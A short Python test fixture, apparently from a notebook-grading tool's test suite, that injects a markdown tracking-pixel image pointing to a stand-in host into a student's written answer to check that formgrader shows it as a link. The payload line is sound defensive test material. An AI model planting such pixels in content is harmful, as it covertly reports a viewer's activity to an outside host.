# kind: notebook
# notebook: 04-scaling
# full: score_stds
# message: An image in the written answer `variance-derivation` that is not pasted into it is shown as a link
from grading_support import with_answers

# a tracking pixel: shown as an image, it would be fetched by the instructor's browser in formgrader
PAYLOAD = "The variance is d_k. ![pixel](https://tracker.example/p.png?student=x)"


def mutate(raw: str) -> str:
    return with_answers(raw, {"variance-derivation": PAYLOAD})
